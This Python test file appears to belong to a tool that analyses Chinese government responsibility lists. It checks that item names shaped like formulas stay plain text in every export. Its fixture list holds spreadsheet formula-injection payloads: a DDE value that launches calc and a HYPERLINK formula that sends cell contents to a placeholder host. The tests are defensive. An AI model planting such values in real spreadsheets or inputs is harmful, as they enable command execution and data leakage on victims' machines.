"""14-04: "an item named =HYPERLINK(…) or =cmd|' /C calc'!A0 is written as a formula into findings.xlsx
(CLI and API), the simulation result.xlsx, and unescaped into the CSV export"."""

import csv
import json

import openpyxl
import pytest

from helpers import HEADER, TOKEN, row, upload, wait, workbook

from quanze.pipeline import analyze
from quanze.api.cli import main
from quanze.api.http import create_app
from quanze.api.reports import write_findings, write_simulation
from quanze.reform import read_scenario, simulate

# as the loader reads them (it drops the blanks inside names)
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&B2,"点击查看")', "=cmd|'/Ccalc'!A0", "+1+2", "-3+4",
            "@SUM(1,2)"]
SCENARIO = """name: 设立行政审批局
create:
  - name: 行政审批局
packages:
  - name: 全部行政许可划入行政审批局
    select: {categories: [行政许可]}
    to: 行政审批局
    mode: 划转
    keep_at_origin: [事后监管]
"""


@pytest.fixture(scope="module")
def lists(tmp_path_factory):
    """A published list whose names are text cells holding formulas, with no basis (so R08 reports each)."""
    folder = tmp_path_factory.mktemp("lists")
    rows = [row(n, name, category="行政许可", basis="") for n, name in enumerate(FORMULAS, 1)]
    rows.append(row(len(rows) + 1, "对未按照规定设置安全生产管理机构的处罚"))
    path = workbook(folder / "明川县应急管理局2024年权责清单.xlsx", {"权责清单": [HEADER, *rows]})
    wb = openpyxl.load_workbook(path)
    for cells in wb.active.iter_rows():
        for cell in cells:
            if cell.data_type == "f":  # openpyxl took them for formulas: a published list holds them as text
                cell.data_type = "s"
    wb.save(path)
    return folder


def cells(path):
    wb = openpyxl.load_workbook(path)
    return [c for ws in wb.worksheets for r in ws.iter_rows() for c in r if c.value is not None]


def assert_text_only(path):
    found = cells(path)
    assert not [c.coordinate for c in found if c.data_type == "f"], f"{path.name} holds formulas"
    texts = {c.value for c in found if isinstance(c.value, str)}
    for name in FORMULAS:
        assert any(name in t for t in texts), f"{name!r} is not intact in {path.name}"
    assert all(c.quotePrefix for c in found if c.value in FORMULAS)


def test_names_that_look_like_formulas_are_loaded(lists):
    done = analyze([lists], selection="R08")
    assert sorted(it.name for it in done.load.items if it.name[0] in "=+-@") == sorted(FORMULAS)
    assert {s["name"] for f in done.result.findings for s in f.subjects} >= set(FORMULAS)


def test_findings_workbook_csv_json_and_page_keep_them_as_text(lists, tmp_path):
    done = analyze([lists], selection="R08")
    assert_text_only(write_findings(done.result, tmp_path / "findings.xlsx"))
    with write_findings(done.result, tmp_path / "findings.csv").open(encoding="utf-8-sig", newline="") as f:
        table = list(csv.reader(f))
    values = [v for r in table for v in r]
    assert not [v for v in values if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for name in FORMULAS:
        assert "'" + name in values
    data = json.loads(write_findings(done.result, tmp_path / "findings.json").read_text(encoding="utf-8"))
    assert {s["name"] for f in data["findings"] for s in f["subjects"]} >= set(FORMULAS)
    page = write_findings(done.result, tmp_path / "report.html").read_text(encoding="utf-8")
    assert "=HYPERLINK(&#34;http://example.invalid/?&#34;&amp;B2" in page


def test_cli_findings_xlsx(lists, tmp_path):
    assert main(["analyze", str(lists), "--rules", "R08", "--out", str(tmp_path / "findings.xlsx")]) == 0
    assert_text_only(tmp_path / "findings.xlsx")


def test_simulation_workbook(lists, tmp_path):
    path = tmp_path / "scenario.yaml"
    path.write_text(SCENARIO, encoding="utf-8")
    from quanze.graph import build_graph
    from quanze.loaders import load_files

    result = simulate(build_graph(load_files([lists]).items), read_scenario(path))
    assert {e["name"] for e in result.outputs["moved"]} == set(FORMULAS)
    out = write_simulation(result, tmp_path / "result.xlsx")
    assert_text_only(out)
    assert main(["simulate", "--scenario", str(path), str(lists), "--out", str(tmp_path / "cli.xlsx")]) == 0
    assert_text_only(tmp_path / "cli.xlsx")


def test_api_excel_and_csv_exports(lists, tmp_path):
    client = create_app(tmp_path / "data", token="s3cret").test_client()
    ds = upload(client, sorted(lists.glob("*.xlsx"))).json["id"]
    run = client.post(f"/api/datasets/{ds}/analyses", json={"rules": "R08"}, headers=TOKEN).json["id"]
    assert wait(client, run)["status"] == "完成"
    xlsx = client.get(f"/api/analyses/{run}/export?format=xlsx")
    assert xlsx.status_code == 200
    (tmp_path / "api.xlsx").write_bytes(xlsx.data)
    assert_text_only(tmp_path / "api.xlsx")
    text = client.get(f"/api/analyses/{run}/export?format=csv").data.decode("utf-8-sig")
    values = [v for r in csv.reader(text.splitlines()) for v in r]
    assert "'" + FORMULAS[1] in values and FORMULAS[1] not in values
